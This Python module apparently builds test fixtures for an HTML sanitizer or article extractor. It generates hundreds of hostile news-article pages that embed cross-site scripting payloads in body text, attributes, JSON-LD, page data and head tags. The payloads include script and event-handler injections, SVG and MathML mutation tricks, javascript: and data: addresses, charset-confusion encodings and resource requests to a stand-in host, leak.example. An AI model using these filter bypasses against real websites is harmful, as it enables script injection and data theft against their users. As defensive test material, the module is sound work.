"""Five hundred hostile pages, made alike each time: what injects scripts or sends requests, in every part of a page.

Every payload that runs sets `ran` in its window, and shows a dialog; every one that asks for
something asks `leak.example`.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from html import escape

__all__ = ["Hostile", "made"]

# A page, by a name that tells how it was made.
Hostile = tuple[str, bytes | str]

RUN = "window.ran=1;alert(1)"
LEAK = "http://leak.example/"
PROSE = (
    "The ferry left the harbour at nine and reached the island before noon, its captain said on Monday. ",
    (
        "Nobody had thought that the pier would hold after the storm, but it did, and the market was "
        "full again. "
    ),
    (
        "Fishermen waited for hours with their nets, and the school on the hill opened its doors to "
        "all of them. "
    ),
)
LEAD, REST, LAST = (prose * 2 for prose in PROSE)

# Markup that runs a script or asks for something wherever it is taken as markup.
MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT >",
    f"<script src={LEAK}a.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src=/a.jpg onload={RUN}>",
    f"<img/src='x'/onerror='{RUN}'//",
    f"<img src=`x` onerror=`{RUN}`>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<img srcset='{LEAK}1.jpg 1x, {LEAK}2.jpg 2x' onerror={RUN}>",
    f"<picture><source srcset='x' onerror={RUN}><img src=x onerror={RUN}></picture>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>The text of a link</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    (
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 "
        f"onerror={RUN} /></svg>#x'/>"
    ),
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror='{RUN}'></style></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<math href='javascript:{RUN}'>CLICK</math>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<title></title><script>{RUN}</script>",
    f"<style></style><script>{RUN}</script>",
    f"<style>@import '{LEAK}a.css';body{{background:url({LEAK}b.png)}}</style>",
    f"<p style='background:url({LEAK}c.png);width:expression({RUN})'>{LEAD}</p>",
    f"<div style=\"background-image:url('{LEAK}d.png')\" class=photo></div>",
    f"<link rel=stylesheet href={LEAK}e.css><link rel=prefetch href={LEAK}f><link rel=icon href={LEAK}g.ico>",
    (
        f"<link rel=preload as=script href={LEAK}h.js><link rel=dns-prefetch href={LEAK}><link "
        f"rel=manifest href={LEAK}m>"
    ),
    f"<base href={LEAK}><a href=x>{LEAD}</a>",
    f"<meta http-equiv=refresh content='0;url={LEAK}i'>",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    f"<iframe src='javascript:{RUN}'></iframe><iframe src={LEAK}j></iframe>",
    f"<iframe srcdoc='<script>parent.ran=1;{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object><object data={LEAK}k></object>",
    f"<embed src='javascript:{RUN}'><embed src={LEAK}l type=application/x-shockwave-flash>",
    f"<applet code={LEAK}m></applet><frameset onload={RUN}><frame src={LEAK}n></frameset>",
    f"<video src={LEAK}o.mp4 poster={LEAK}p.png onerror={RUN}><source src=x onerror={RUN}></video>",
    f"<audio src={LEAK}q.mp3 autoplay onerror={RUN}></audio><track src={LEAK}r.vtt>",
    (
        f"<form action={LEAK}s id=f><input autofocus onfocus={RUN}></form><button form=f "
        f"formaction='javascript:{RUN}'>Go</button>"
    ),
    f"<input type=image src={LEAK}t.png onerror={RUN}><isindex type=image src=1 onerror={RUN}>",
    f"<details open ontoggle={RUN}><summary>More</summary>{LEAD}</details>",
    f"<marquee onstart={RUN}>{LEAD}</marquee><body onload={RUN} background={LEAK}u.png>",
    f"<a href='javascript:{RUN}' onclick={RUN} ping={LEAK}v>{LEAD}</a>",
    f"<a href={LEAK}w target=_blank onmouseover={RUN} autofocus tabindex=1 onfocus={RUN}>{LEAD}</a>",
    f"<p onmouseover={RUN} onclick={RUN} contenteditable onfocus={RUN} autofocus>{LEAD}</p>",
    f"<!--><img src=x onerror={RUN}>--><!--!><script>{RUN}</script>--!>",
    f"<![CDATA[><script>{RUN}</script>]]><?xml-stylesheet href='javascript:{RUN}'?>",
    f'<<script>{RUN}//<</script><img """><script>{RUN}</script>">',
    f"</p></article></body></html><script>{RUN}</script>",
    f"<portal src={LEAK}x></portal><fencedframe src={LEAK}y></fencedframe><bgsound src='javascript:{RUN}'>",
    f"<div id=alert></div><form id=document><input name=body></form><img name=cookie><script>{RUN}</script>",
    f"\" autofocus onfocus={RUN} x=\"' onmouseover={RUN} y='`><script>{RUN}</script>",
    f"]]></script><script>{RUN}</script>'\"--></style></title></textarea></noscript><script>{RUN}</script>",
    f"\u202e<script>{RUN}</script>\u202c\u2066<img src=x onerror={RUN}>\u2069\u200b",
    f"<scr\x00ipt>{RUN}</scr\x00ipt><\x00img src=x onerror={RUN}><img\x0csrc=x\x0bonerror={RUN}>",
    f"＜script＞{RUN}＜/script＞ʺ＞<ſcript>{RUN}</ſcript>",
    f"![x](javascript:{RUN}) [y](<javascript:{RUN}>) <javascript:{RUN}> `<script>{RUN}</script>`",
)

# Addresses that run or ask for something wherever they are opened.
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://a.example/",
    f" \x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"javascript&NewLine;:{RUN}",
    f"https:javascript:{RUN}",
    f'https://a.example/"onmouseover="{RUN}',
    f"https://a.example/'><script>{RUN}</script>",
    f"https://a.example/?q=</title><script>{RUN}</script>",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"blob:https://a.example/{RUN}",
    f"filesystem:https://a.example/{RUN}",
    f'mailto:a@b.example?subject="><script>{RUN}</script>',
    "//leak.example/z",
    "\\\\leak.example\\z",
    "http:/leak.example/z",
    "/\\leak.example/z",
    "https://user:secret@leak.example:81/z?<>\"'`",
)


def article(body: str, head: str = "", title: str = "Ferry runs again") -> str:
    """Make a page that is an article, with something foreign in its middle, its head or its title."""
    return (
        f"<!doctype html><html lang=en><head><meta "
        f"charset=utf-8><title>{title}</title>{head}</head><body><article>"
        f"<h1>{title}</h1><p class=byline>By Jane "
        f"Doe</p><p>{LEAD}</p>{body}<p>{REST}</p><p>{LAST}</p></article></body></html>"
    )


def json_ld(**values: object) -> str:
    """Write an article's JSON-LD, which a `</` within does not end."""
    text = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle", **values}).replace(
        "</", "<\\/"
    )
    return f'<script type="application/ld+json">{text}</script>'


def in_text(payload: str) -> str:
    """Write a payload as text, in every kind of block: what is escaped once must be so again."""
    text = escape(payload)
    return article(
        f"<p>{text} {LEAD}</p><h2>{text}</h2><ul><li>{text}<li><a "
        f"href=/x>{text}</a></ul><blockquote>{text}</blockquote>"
        f"<pre>{text}</pre><table><tr><th>{text}<th>b<tr><td>{text}<td>1</table><figure><img "
        f'src=/a.jpg alt="{text}">'
        f"<figcaption>{text} Photo: {text}</figcaption></figure><p><b>{text}</b> <code>{text}</code> "
        f"{LEAD}</p>",
        f'<meta name=author content="{text}"><meta name=description content="{text}">',
        f"Ferry {text}",
    )


def in_attributes(payload: str) -> str:
    """Write a payload into attributes that end where it wants them to, and where it does not."""
    return article(
        f'<img src="/a.jpg" alt="{payload}"><a href="/b" title=\'{payload}\'>{LEAD}</a><p '
        f"class={payload}>{LEAD}</p>"
        f'<figure><img src="/c.jpg" alt="{escape(payload)}"><figcaption>A pier</figcaption></figure>'
        f'<blockquote class=twitter-tweet cite="{escape(payload)}"><p>{LEAD}</p></blockquote><time '
        f'datetime="{payload}">x</time>'
    )


def in_data(payload: str) -> str:
    """Write a payload into every value of the JSON-LD, on a page that shows no title or byline of its own."""
    told = {
        "headline": f"Ferry {payload}",
        "description": payload,
        "articleSection": payload,
        "keywords": [payload, "pier"],
    }
    author = {"@type": "Person", "name": f"Jane {payload}", "url": payload}
    place = {
        "url": payload,
        "image": payload,
        "publisher": {"name": payload, "logo": payload},
        "mainEntityOfPage": payload,
    }
    dates = {"datePublished": f"2024-03-02{payload}", "dateModified": payload, "inLanguage": payload}
    head = json_ld(**told, **place, **dates, author=author, articleBody=f"{LEAD}{payload}{REST}")
    return f"<html><head>{head}</head><body><p>{LEAD}</p><p>{REST}</p><p>{LAST}</p></body></html>"


def in_scripts(payload: str) -> str:
    """Write a payload into the body that only the page's data holds."""
    body = f"<p>{LEAD}</p>{payload}<p>{REST}</p><p>{LAST}</p><p>{REST * 3}</p>" * 2
    told = {"props": {"pageProps": {"article": {"title": "Ferry runs again", "slug": "ferry", "body": body}}}}
    data = json.dumps(told).replace("</", "<\\/")
    return (
        "<html><head><title>Ferry runs again</title></head><body><div id=__next><h1>Ferry runs "
        "again</h1></div>"
        f'<script id="__NEXT_DATA__" type="application/json">{data}</script></body></html>'
    )


def in_head(payload: str) -> str:
    """Write a payload into what the head says: addresses, cards, language, base."""
    text = escape(payload)
    names = (
        "og:title",
        "og:image",
        "og:url",
        "og:site_name",
        "og:description",
        "article:author",
        "article:published_time",
    )
    metas = "".join(f'<meta property="{name}" content="{text}">' for name in names)
    links = f'<link rel=canonical href="{text}"><link rel=amphtml href="{text}"><base href="{text}">{payload}'
    return article("<p><a href=/x>A link</a> in the text.</p>", metas + links)


def in_posts(payload: str) -> str:
    """Write a payload into a live blog's posts and into the other articles offered."""
    text = escape(payload)
    posts = "".join(
        f"<div class=live-post><time datetime='2024-03-02T1{n}:00:00Z'>1{n}:00</time><h3>{text} "
        f"{n}</h3><p>{payload}{LEAD}</p></div>"
        for n in range(6)
    )
    rail = "".join(f"<li><a href='/n/{n}'>{payload}{text} and the pier {n}</a>" for n in range(6))
    update = [
        {
            "@type": "BlogPosting",
            "headline": payload,
            "articleBody": payload + LEAD,
            "datePublished": "2024-03-02",
        }
    ]
    head = json_ld(liveBlogUpdate=update).replace("NewsArticle", "LiveBlogPosting")
    return article(
        f"<div class=liveblog>{posts}</div><aside class=related><h2>Read also</h2><ul>{rail}</ul></aside>",
        head,
        "Live: ferry",
    )


def in_copied(payload: str) -> str:
    """Write a payload into copied text."""
    lines = (
        f"Ferry {payload}",
        f"By Jane {payload}",
        LEAD,
        payload,
        f"{REST}{payload}",
        f"- {payload}",
        "- b",
        LAST,
    )
    return "\n\n".join(lines)


def of_address(address: str) -> str:
    """Put an address wherever a page may have one."""
    text = escape(address)
    return article(
        f'<p><a href="{text}">A link</a> {LEAD}</p><figure><img src="{text}" data-src="{text}" '
        f'srcset="{text} 2x" alt="Pier">'
        f'<figcaption>A pier</figcaption></figure><iframe src="{text}"></iframe><video src="{text}" '
        f'poster="{text}"></video>'
        f'<div class=photo style="background-image:url({text})"></div><object '
        f'data="{text}"></object><embed src="{text}">'
        f'<blockquote class=twitter-tweet><p>{LEAD}</p><a href="{text}">2 '
        f'March</a></blockquote><amp-img src="{text}"></amp-img>'
        f'<p>Page <a href="{text}" rel=next>2</a></p><aside class=related><a href="{text}">The pier '
        f"is closed for repairs</a></aside>",
        json_ld(
            headline="Ferry runs again",
            url=address,
            image=[address],
            author={"name": "Jane Doe", "url": address},
        )
        + f'<link rel=canonical href="{text}"><meta property=og:image content="{text}"><meta '
        f'property=og:url content="{text}">',
    )


def encoded() -> Iterator[Hostile]:
    """Write payloads in encodings that hide them from who reads them in another."""
    payload = MARKUP[0]
    page = article(f"<p>{LEAD}{payload}</p>{MARKUP[5]}")
    for codec in ("utf-7", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "cp037"):
        yield f"encoded in {codec}", page.encode(codec)
        yield f"encoded in {codec}, said to be another", b"<meta charset=utf-8>" + page.encode(codec)
    hidden = payload.encode("utf-16-be")
    yield from {
        "utf-7 in attributes": page.replace("Pier", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-").encode(),
        "iso-2022-jp that swallows a quote": page.replace(
            "By Jane", '\x1b$B"<img alt="\x1b(B" onerror=alert(1) src=x>'
        ).encode(),
        "gbk that swallows a quote": b'<meta charset=gbk><img alt="\x81">'
        + page.encode()
        + b'" onerror=alert(1)>',
        "shift_jis that swallows a backslash": b"<meta charset=shift_jis>\x83\\" + page.encode(),
        "overlong utf-8": page.encode().replace(b"<script>", b"\xc0\xbcscript\xc0\xbe"),
        "halves of surrogate pairs": page.encode().replace(b"ferry", b"\xed\xa0\xbc\xed\xb0\x80"),
        "utf-16 within utf-8": page.encode().replace(b"ferry", hidden),
        "nul bytes": page.encode().replace(b"<script>", b"<\0s\0cript>"),
        "invalid bytes before quotes": page.encode().replace(b'"', b'\xf0"'),
    }.items()
    for sign in ("\u202e", "\u2066", "\u200f", "\ufeff", "\u2028", "\u0085", "\x1b[2J", "\x9b31m"):
        yield (
            f"with {sign!a} everywhere",
            article(f"<p>{sign}{LEAD}{sign}{payload}</p>", "", f"Ferry{sign} runs {sign}again"),
        )


CONTEXTS: dict[str, Callable[[str], str]] = {
    "between paragraphs": article,
    "within a paragraph": lambda payload: article(f"<p>{LEAD}{payload}{LEAD}</p><li>{payload}<td>{payload}"),
    "as text": in_text,
    "in attributes": in_attributes,
    "in the data": in_data,
    "in the scripts": in_scripts,
    "in the head": in_head,
    "in posts": in_posts,
    "in copied text": in_copied,
}


def made(count: int) -> list[Hostile]:
    """Make so many hostile pages, of every kind alike."""
    pages: list[Hostile] = list(encoded())
    pages += [(f"address {address!a}", of_address(address)) for address in ADDRESSES]
    # one context after the other, so that the first pages have every payload and every context
    turns = len(CONTEXTS)
    for turn in range(turns):
        for number, payload in enumerate(MARKUP):
            name = list(CONTEXTS)[(number + turn) % turns]
            pages.append((f"{payload[:60]!a} {name}", CONTEXTS[name](payload)))
    # two payloads that differ by a NUL alone would be one page
    return list({content: (name, content) for name, content in pages}.values())[:count]
